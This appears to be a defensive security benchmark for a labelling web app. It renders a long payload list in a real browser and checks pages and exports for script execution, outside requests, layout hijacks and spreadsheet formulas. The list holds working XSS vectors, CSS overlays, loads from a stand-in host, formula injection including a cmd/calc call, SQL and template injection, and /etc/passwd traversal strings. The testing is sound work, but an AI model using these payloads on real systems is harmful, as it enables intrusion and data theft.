"""Hostile contents through every page and every export, in a real browser.

    python -m benchmarks.attacks [--quick] [--rows FILE] [--write]

Each content is a text to judge, the name of a class and of a column, part of a question, of the
instructions and of a note; some are names of files, people and projects as well. It ends with an
error where a script runs, a request leaves the server, a page or button looks different beside
them than beside harmless words, or an export holds a formula, a script or a trace.
"""

import csv
import io
import json
import re
import tempfile
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from contextlib import closing, suppress
from dataclasses import replace
from functools import partial
from pathlib import Path
from random import Random
from typing import Any
from urllib.parse import quote

import openpyxl
import pandas as pd
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, Page
from pypdf import PdfReader

import labelcore as lc
from benchmarks.harness import Benchmark, Job, Options, Row, Rows, command, flat
from benchmarks.harness import table as markdown
from labelcore.access import key_of
from labelcore.items.highlight import LONGEST
from labelcore.population.formats import detect
from labelcore.population.head import head_of
from labelcore.report.labels import LABEL_FORMS, labels_file
from labelcore.report.tables import FORMULA_STARTS, events_csv
from labelcore.report.written import REPORT_FORMS
from labelcore.store import act, note
from labelcore.team.register import Register
from labelcore.team.roles import Role
from tests.browser.chromium import launch
from tests.browser.conftest import open_profile, wait_until_idle
from tests.browser.server import Server

FLAG, ELSEWHERE = "labelcoreRan", "http://labelcore.invalid"
RUN = f"window.{FLAG}=1"
CHUNK, ITEMS, LABELS = 10, 40, 30
MUTATIONS = 40
START = "start"
FAULTS = ("scripts", "requests", "foreign", "layout", "traces")
OF_METHODS = ("method?page=compare",)
AUDIT = "audit"
PAGES = (AUDIT, "label", "progress", "report", "review", "explore", "people", *OF_METHODS)
WATCHED, SHARED = "watch", "share"


# --- what is tried --------------------------------------------------------------------------------


def hostile() -> list[str]:
    """The contents, each once."""
    events = ("onload", "onerror", "onclick", "onmouseover", "onfocus autofocus", "onanimationend",
              "ontoggle open", "onpointerenter", "onbeforeinput", "onpaste")  # fmt: skip
    tags = ("img src=x", "svg", "body", "video src=x", "details", "input", "marquee", "b", "form",
            "object data=x")  # fmt: skip
    found = [f"<{tag} {event}='{RUN}'>" for tag, event in zip(tags, events, strict=True)]
    found += [f"<svg><{tag}/></svg>" for tag in (
        f"script>{RUN}</script", f"animate onbegin={RUN} attributeName=x dur=1s",
        f"a href=javascript:{RUN}><text>x</text></a", f"image href={ELSEWHERE}/i.png",
        f"use href='{ELSEWHERE}/u.svg#a'", f"foreignObject><iframe srcdoc='<script>{RUN}'",
        f"style>@import '{ELSEWHERE}/s.css'</style", f"set onend={RUN}",
    )]  # fmt: skip
    found += [
        f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src={ELSEWHERE}/a.js>",
        f"</script><script>{RUN}</script>", f"<<script>{RUN}//<</script>",
        f'"><script>{RUN}</script>', f"'-({RUN})-'", f"\\';{RUN}//", f"</textarea><script>{RUN}",
        f"</title><script>{RUN}</script>", f"<!--><script>{RUN}</script>-->",
        f"<iframe src='javascript:parent.{FLAG}=1'>", f"<iframe srcdoc='<script>parent.{FLAG}=1'>",
        f"<embed src=data:text/html,<script>{RUN}</script>>", f"<math href=javascript:{RUN}>x",
        f"<base href={ELSEWHERE}/>", f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
        f"<link rel=stylesheet href={ELSEWHERE}/c.css>", f"<link rel=prefetch href={ELSEWHERE}>",
        f"<form action={ELSEWHERE}><button>Save", "<plaintext>", "<noscript><p title='</noscript>",
        "<style>*{display:none!important}</style>", "<style>button{position:fixed;inset:0}</style>",
        "<div style='position:fixed;inset:0;background:red;z-index:99999'>over all</div>",
        f"<p style=\"background:url('{ELSEWHERE}/p.png')\">", "</div></div></section><h1>out</h1>",
        "<table><tr><td>in a table", "<dialog open>a dialog</dialog>", "<button>Finish</button>",
    ]  # fmt: skip
    found += [
        f"![p]({ELSEWHERE}/m.png)", f"[l](javascript:{RUN})", f"[l](data:text/html,<script>{RUN})",
        f"<{ELSEWHERE}/auto>", f"{ELSEWHERE}/bare", f"www.labelcore.invalid/{FLAG}", "# Heading",
        "**bold** _it_ ~~gone~~ `code`", "| a | b |\n|---|---|\n| 1 | 2 |", "- [x] done",
        "> quoted",
        f"[r]: {ELSEWHERE}", "```html\n<b>\n```", ":red[colour] :material/home: :smile:",
        ":blue-background[x] :small[x]", "$\\href{javascript:1}{x}$", "$$\\frac{1}{0}$$",
        f"$\\includegraphics{{{ELSEWHERE}/l.png}}$", "\\def\\x{\\x\\x}\\x", "$\\htmlStyle{a:b}{x}$",
        "\\input{/etc/passwd}", "#set page(width: 1pt)", '#read("/etc/passwd")', "#panic()",
    ]  # fmt: skip
    found += [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://labelcore.invalid","x")',
        "=cmd|'/c calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", '=IMPORTXML("http://labelcore.invalid")',
        "\u202eright to left\u202c", "\u2066isolated\u2069", "zero\u200bwidth\u200d\ufeff",
        "Z\u0351\u036b\u0343\u036a\u0302" * 30, "\x1b[31mred\x1b[0m", "bell\x07 and \x08 back",
        "\x7f delete \x85 next", "\u2028line\u2029paragraph", "\ufffe\uffff", "\U000e0041tag",
        "a" * 4000, "wide " * 1500, "\n" * 300 + "far below", "𒐫" * 300, "👩‍👩‍👧" * 200,
        "../../../../etc/passwd", "..\\..\\windows", "C:\\CON", "file:///etc/passwd", "/dev/zero",
        f"data:image/svg+xml,<svg onload={RUN}>", f"data:text/html,<script>{RUN}</script>",
        "{{7*7}} ${7*7} <%= 7*7 %>", "%s %n {0} {x!r}", "'; DROP TABLE event; --", "\"' OR 1=1 --",
        '{"__proto__": {"a": 1}}', "[" * 400, '{"a":' * 300, "null", "NaN", "undefined", "true",
        f"<a ping={ELSEWHERE} href={ELSEWHERE}>", f"<portal src={ELSEWHERE}>", "&lt;b&gt; &#0;",
    ]  # fmt: skip
    return list(dict.fromkeys(found))


HARMLESS = tuple(f"ordinary words {number}" for number in range(CHUNK))


# --- a project full of them -----------------------------------------------------------------------


def short(text: str, most: int = 60) -> str:
    """The content as a name: what a name may not have is taken out."""
    kept = "".join(one for one in text if one.isprintable()).strip()[:most].strip()
    return kept or "a name"


def file_name(text: str) -> str:
    return re.sub(r"[/\x00]", "_", short(text, 40)) + ".parquet"


def project_of(data: Path, contents: Sequence[str], number: int) -> str:
    """A project in which each of the contents stands in every place; its name."""
    classes = [f"{short(one, 200)} {place}" for place, one in enumerate(contents)]
    table: dict[str, list[Any]] = {
        "id": [f"{short(contents[n % len(contents)], 80)} {n}" for n in range(ITEMS)],
        "says": [classes[n * 7 % len(classes)] for n in range(ITEMS)],
        "text": [contents[n % len(contents)] for n in range(ITEMS)],
    }
    columns = [f"{short(one, 100)} column {place}" for place, one in enumerate(contents)]
    for place, name in enumerate(columns):
        table[name] = [contents[(n + place) % len(contents)] for n in range(ITEMS)]
    (data / "files").mkdir(parents=True, exist_ok=True)
    path = data / "files" / f"{number} {file_name(contents[0])}"
    pd.DataFrame(table).to_parquet(path)
    shown = {"content": ["text", *columns[:3]], "predictions": {short(contents[1]): "says"}}
    population = lc.read_population(path, id="id", **shown)
    plan = lc.Plan("simple_random", ["accuracy"], budget=ITEMS - 1, seed=3, promise="watched")
    joined = "\n".join(contents)
    words = [one.strip()[: LONGEST["word"]] for one in contents if one.strip()][:3]
    given: dict[str, Any] = {"question": " ".join(contents[:3]), "instructions": joined}
    given |= {"title": contents[0], "highlight": {"words": words}}
    name = f"{number} {short(contents[0], 50)}"
    with closing(lc.open_store(f"sqlite:///{data / 'labelcore.db'}")) as store:
        session = lc.Session(population, plan, store, name, settings=given)
        for place in range(LABELS):
            draw = session.next("ann")
            assert draw is not None
            session.answer(draw, classes[place % len(classes)])
            session.note(draw.index, contents[place % len(contents)])
            session.flag(draw.index)
        for person, content in zip(("ann", "bob"), contents, strict=False):
            session.introduce(short(content), person)
        session.results()
        with_roles(data, key_of(session.record.created_at, session.record.fingerprint), contents)
        note(store, *(act(one, one, f"project {name!r}, {one}") for one in contents))
        monitor = lc.Monitor(store, name, replace(plan, budget=4), settings=given)
        for place, wave_name in enumerate(contents[1:3]):
            later = path.with_name(f"{place} {path.name}")
            pd.DataFrame(table).iloc[place + 1 :].to_parquet(later)
            of_wave = lc.read_population(later, id="id", **shown)
            wave = monitor.wave(of_wave, f"{place} {short(wave_name)}")
            while (draw := wave.next("ann")) is not None:
                wave.answer(draw, classes[draw.index % len(classes)])
    return name


def with_roles(data: Path, key: str, contents: Sequence[str]) -> None:
    """People and a group of these names, where they can be names."""
    register = Register(data)
    for place, one in enumerate(contents):
        with suppress(ValueError):
            register.add(f"{short(one)} {place}", None, login=True, roles={key: Role.VIEWER})
    register.add(f"{short(contents[0], 40)} {key}", None, group=True, roles={key: Role.VIEWER})


# --- the watch ------------------------------------------------------------------------------------

FRAME = """
() => {
  const look = ["display", "position", "visibility", "opacity", "color", "backgroundColor",
    "fontFamily", "fontSize", "transform", "zIndex", "direction"];
  const of = what => [...new Set([...document.querySelectorAll(what)].map(one =>
    look.map(name => getComputedStyle(one)[name]).join("|")))];
  const address = one => String(one.href?.baseVal ?? one.href ?? one.src ?? "");
  const marked = ["STRONG bold", "EM it", "DEL gone", "CODE code", "H1 Heading", "H1 out",
    "TD in a table", "BLOCKQUOTE quoted", "DIV over all", "SPAN colour"];
  const brought = one => /^(https?:..labelcore\\.invalid|javascript:|data:text)/i.test(address(one))
    || marked.includes(`${one.tagName} ${one.textContent.trim()}`)
    || one.matches("iframe[srcdoc], base, dialog[open], marquee, plaintext, .katex, "
      + "[style*='labelcore.invalid'], [action*='labelcore.invalid']")
    || [...one.attributes].some(of => of.name.startsWith("on"));
  return {
    frame: Object.fromEntries(["html", "body", "[data-testid=stApp]", "[data-testid=stMain]",
      "header", ".lc-surface", ".lc-answers", ".lc-answers button", ".lc-tools",
      "[data-testid=stAlertContentError]", "[data-testid=stException]"]
      .map(what => [what, of(what)])),
    wide: document.documentElement.scrollWidth - innerWidth,
    ran: window.labelcoreRan === undefined ? 0 : 1,
    foreign: [...document.querySelectorAll("*")].filter(brought)
      .map(one => one.outerHTML.slice(0, 200)),
    traces: /Traceback|Something went wrong/.test(document.body.innerText) ? 1 : 0,
  };
}
"""


class Watch:
    """Everything that a profile or page does which no page of the app should do."""

    def __init__(self, profile: BrowserContext | Page, origin: str) -> None:
        self.origin, self.dialogs = origin, 0
        self.requests: list[str] = []
        profile.on("request", lambda one: self._asked(one.url))
        profile.on("dialog", self._dialog)

    def _asked(self, url: str) -> None:
        own = url.startswith((self.origin, "data:", "blob:", "file:", "about:"))
        if not own:
            self.requests.append(url)

    def _dialog(self, dialog: Any) -> None:
        self.dialogs += 1
        dialog.dismiss()

    def taken(self) -> tuple[int, int]:
        """The requests and the dialogs since it was last asked."""
        found = len(self.requests), self.dialogs
        self.requests, self.dialogs = [], 0
        return found


def seen(page: Page, watch: Watch, harmless: Mapping[str, Sequence[str]] | None) -> Row:
    """What is wrong with the page, counted; ``harmless`` is how its frame should look."""
    found = page.evaluate(FRAME)
    requests, dialogs = watch.taken()
    usual = harmless or found["frame"]
    changed = [what for what, styles in found["frame"].items() if set(styles) - set(usual[what])]
    return {
        "scripts": found["ran"] + dialogs,
        "requests": requests,
        "foreign": len(found["foreign"]),
        "layout": len(changed) + (found["wide"] > 1),
        "traces": found["traces"],
        "changed": [*changed, *found["foreign"]],
        "frame": found["frame"],
    }


def open_page(page: Page, url: str) -> None:
    page.goto(url)
    if f"/{SHARED}?" in url:
        return
    page.locator('[data-testid="stMain"]').get_by_text("a", exact=False).first.wait_for()
    wait_until_idle(page)


def through_pages(
    page: Page, watch: Watch, url: str, project: str, usual: Mapping[str, Any],
    places: Sequence[str] = (*PAGES, SHARED, WATCHED, "new_project", START),
) -> Iterator[Row]:  # fmt: skip
    """Each page of a project and the two that list projects and files; ``usual`` is how the frame
    of each looks with harmless words."""
    watch.taken()
    for where in places:
        sign = "&" if "?" in where else "?"
        named = {WATCHED: "monitor"}.get(where, "project")
        alone = where in ("new_project", START, AUDIT)
        own = where if alone else f"{where}{sign}{named}={quote(project)}"
        open_page(page, f"{url}/{'' if where == START else own}")
        if where == "label":
            skip_some(page)
        yield {"place": where, **seen(page, watch, usual.get(where))}


def skip_some(page: Page) -> None:
    for _ in range(3):
        token = page.locator(".lc-box").first.get_attribute("data-token")
        page.wait_for_timeout(200)  # A quicker press is refused.
        page.keyboard.press("s")
        page.wait_for_function(
            "was => document.querySelector('.lc-box')?.dataset.token !== was", arg=token
        )
        wait_until_idle(page)


# --- what is taken home ---------------------------------------------------------------------------


def cells_of(suffix: str, content: bytes) -> list[object]:
    if suffix == ".csv":
        return [one for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for one in row]
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [one for sheet in book for row in sheet.iter_rows() for one in row]


def formulas(suffix: str, content: bytes) -> int:
    """Cells that a spreadsheet would run."""
    cells = cells_of(suffix, content)
    if suffix == ".xlsx":
        return sum(getattr(one, "data_type", "") == "f" for one in cells)
    texts = [str(one) for one in cells]
    numbers = re.compile(r"[-+]?[\d.]+(e[-+]?\d+)?")
    return sum(
        one.lstrip(" ").startswith(FORMULA_STARTS) and not numbers.fullmatch(one) for one in texts
    )


def links(content: bytes) -> int:
    """What a PDF would do when it is opened or pressed."""
    pages = PdfReader(io.BytesIO(content)).pages
    actions = [one.get_object() for page in pages for one in page.get("/Annots") or ()]
    return sum("/A" in one for one in actions) + len(re.findall(rb"/JavaScript|/Launch", content))


def unescaped(content: bytes) -> int:
    """Elements, links and pictures that Markdown would make of a report, outside of code."""
    text = re.sub(rb"^(`{3,})$.*?^\1$", b"", content, flags=re.MULTILINE | re.DOTALL)
    return len(re.findall(rb"(?<!\\)<[a-z/!]|(?<!\\)\]\(", text, re.IGNORECASE))


def read_back(suffix: str, content: bytes) -> int:
    """What would run in an export, counted; raises where the export cannot be read."""
    if suffix in (".csv", ".xlsx"):
        return formulas(suffix, content)
    if suffix in (".pdf", ".md"):
        return links(content) if suffix == ".pdf" else unescaped(content)
    if suffix == ".json":
        json.loads(content)
    elif suffix == ".png":
        Image.open(io.BytesIO(content)).load()
    elif suffix == ".parquet":
        pd.read_parquet(io.BytesIO(content))
    return 0


def made_of(data: Path, project: str) -> dict[str, bytes]:
    """Every export of a project."""
    with closing(lc.open_store(f"sqlite:///{data / 'labelcore.db'}")) as store:
        session = lc.Session.open(store, project)
        made = {f"report{suffix}": form(session) for suffix, form in REPORT_FORMS.items()}
        for suffix in LABEL_FORMS:
            made[f"labels{suffix}"] = labels_file(session, suffix, content=True)
        made["events.csv"] = events_csv(session).encode()
    return made


def exports(
    page: Page, watch: Watch, data: Path, project: str, usual: Mapping[str, Any]
) -> Iterator[Row]:
    for name, content in made_of(data, project).items():
        if name.endswith(".html"):
            (data.parent / name).write_bytes(content)
            page.goto((data.parent / name).as_uri())
            yield {"place": name, **seen(page, watch, usual.get(name))}
            continue
        found: Row = {"place": name, **dict.fromkeys(FAULTS, 0), "changed": []}
        found["foreign"] = read_back(Path(name).suffix, content)
        yield found | {"traces": int(b"Traceback" in content)}


# --- files ----------------------------------------------------------------------------------------


def sound_files(folder: Path) -> list[Path]:
    """One small file of each kind."""
    table = pd.DataFrame(
        {
            "id": [f"i{n}" for n in range(30)],
            "text": [f"text {n}, “quoted”, ü\nnext line" for n in range(30)],
            "score": [n / 30 for n in range(30)],
        }
    )
    table.to_csv(folder / "a.csv", index=False)
    table.to_csv(folder / "b.tsv", index=False, sep="\t", encoding="utf-16")
    table.to_csv(folder / "c.csv.gz", index=False)
    table.to_json(folder / "d.json", orient="records")
    table.to_json(folder / "e.jsonl", orient="records", lines=True)
    table.to_excel(folder / "f.xlsx", index=False)
    table.to_parquet(folder / "g.parquet")
    return sorted(folder.iterdir())


def mutated(content: bytes, random: Random) -> bytes:
    """The file cut, with other bytes, with a piece twice, or in another encoding."""
    found, at = bytearray(content), random.randrange(len(content))
    match random.randrange(6):
        case 0:
            return content[:at]
        case 1:
            for _ in range(random.choice([1, 4, 40])):
                found[random.randrange(len(found))] ^= 1 << random.randrange(8)
        case 2:
            found[at:at] = bytes(random.randrange(256) for _ in range(random.choice([1, 9, 400])))
        case 3:
            found[at:at] = content[at : at + random.randrange(1, 600)]
        case 4:
            del found[at : at + random.randrange(1, 600)]
        case 5:
            found[at:at] = random.choice(
                [b"\x00" * 50, b"[" * 3000, b'"', b"\xff\xfe", b"\r\n" * 99]
            )
    return bytes(found)


def outcome_of(path: Path) -> str:
    """What the page would say of the file: nothing, a sentence, or a trace."""
    try:
        detect(path)
        head_of([path], {})
        lc.read_population(path, id="id", content=["text"], scores={"m": "score"})
    except (ValueError, TypeError, OSError) as error:
        return "a sentence" if str(error) else f"{type(error).__name__} without a word"
    except Exception as error:
        return f"{type(error).__name__}: {error}"
    return "read"


def files(each: int) -> list[Row]:
    """Mutations of small files through the functions that New project reads with."""
    random, rows = Random(20), []
    with tempfile.TemporaryDirectory() as folder, tempfile.TemporaryDirectory() as changed:
        for path in sound_files(Path(folder)):
            content, told = path.read_bytes(), Counter[str]()
            assert outcome_of(path) == "read", path
            for number in range(each):
                wrong = Path(changed) / f"{number}{path.name}"
                wrong.write_bytes(mutated(content, random))
                told[outcome_of(wrong)] += 1
                wrong.unlink()
            traces = [what for what in told if what not in ("read", "a sentence")]
            rows.append({"file": path.name[2:], "read": told["read"], "told": told["a sentence"],
                         "traces": traces, "number": each})  # fmt: skip
    return rows


# --- the table ------------------------------------------------------------------------------------


def contents_of(browser: Browser, numbers: Sequence[int]) -> list[Row]:
    """Some of the chunks of contents through all pages and exports, beside a harmless project."""
    every = hostile()
    chunks = [every[at : at + CHUNK] for at in range(0, len(every), CHUNK)]
    rows: list[Row] = []
    with tempfile.TemporaryDirectory() as folder:
        data = Path(folder) / "data"
        with Server(data) as server:
            profile = open_profile(browser, reduced_motion="reduce")
            page, watch = profile.new_page(), Watch(profile, server.url)

            def through(project: str, usual: Mapping[str, Any]) -> list[Row]:
                found = list(through_pages(page, watch, server.url, project, usual))
                return found + list(exports(page, watch, data, project, usual))

            plain = through(project_of(data, HARMLESS, 1000), {})
            usual = {row["place"]: row["frame"] for row in plain if "frame" in row}
            for number in numbers:
                contents = (chunks[number] + every)[:CHUNK]
                for row in through(project_of(data, contents, number), usual):
                    row.pop("frame", None)
                    rows.append({"contents": len(chunks[number]), **row})
            rows.append({"place": "server", "contents": 0, **dict.fromkeys(FAULTS, 0),
                         "changed": [], "traces": server.log.count("Traceback")})  # fmt: skip
    return rows


def chunk(number: int) -> list[Row]:
    with launch() as browser:
        return contents_of(browser, [number])


def jobs(options: Options) -> dict[str, Job]:
    number = -(-len(hostile()) // CHUNK)
    parts = range(1) if options.quick else range(number)
    through: dict[str, Job] = {f"contents {one:02d}": partial(chunk, one) for one in parts}
    return through | {"files": partial(files, 20 if options.quick else MUTATIONS)}


def tables(rows: Rows, options: Options) -> str:
    every = [row for row in flat(rows) if "place" in row]
    lines = []
    for place in dict.fromkeys(row["place"] for row in every):
        those = [row for row in every if row["place"] == place]
        sums = [sum(int(row[fault]) for row in those) for fault in FAULTS]
        lines.append((place, f"{sum(int(row['contents']) for row in those):,}", *sums))
    head = ("page or export", "contents", "scripts run", "requests elsewhere",
            "live elements or formulas", "frame changed", "traces")  # fmt: skip
    number = max((line[1] for line in lines), key=lambda text: int(text.replace(",", "")))
    said = f"{number} hostile contents.\n\n" + markdown(head, lines)
    of_files = [row for row in flat(rows) if "file" in row]
    names = ("file", "mutations", "read all the same", "refused with a sentence", "anything else")
    cells = [(row["file"], row["number"], row["read"], row["told"], len(row["traces"]))
             for row in of_files]  # fmt: skip
    return said + "\n## Broken files\n\n" + FILES + "\n\n" + markdown(names, cells)


def faults(rows: Rows, options: Options) -> list[str]:
    found = [
        f"{row['place']}: {fault} ({row[fault]}; {row['changed']})"
        for row in flat(rows)
        for fault in FAULTS
        if row.get(fault) and "place" in row
    ]
    return found + [
        f"{row['file']}: {row['traces']}" for row in flat(rows) if "file" in row and row["traces"]
    ]


FILES = """Small files with bytes cut, changed, put in and taken out at random, through the
functions that *New project* reads them with."""

BENCHMARK = Benchmark(
    name="attacks", about=__doc__ or "", jobs=jobs, tables=tables, faults=faults,
    page="attacks.md", workers=1,
)  # fmt: skip

if __name__ == "__main__":
    command(BENCHMARK)()
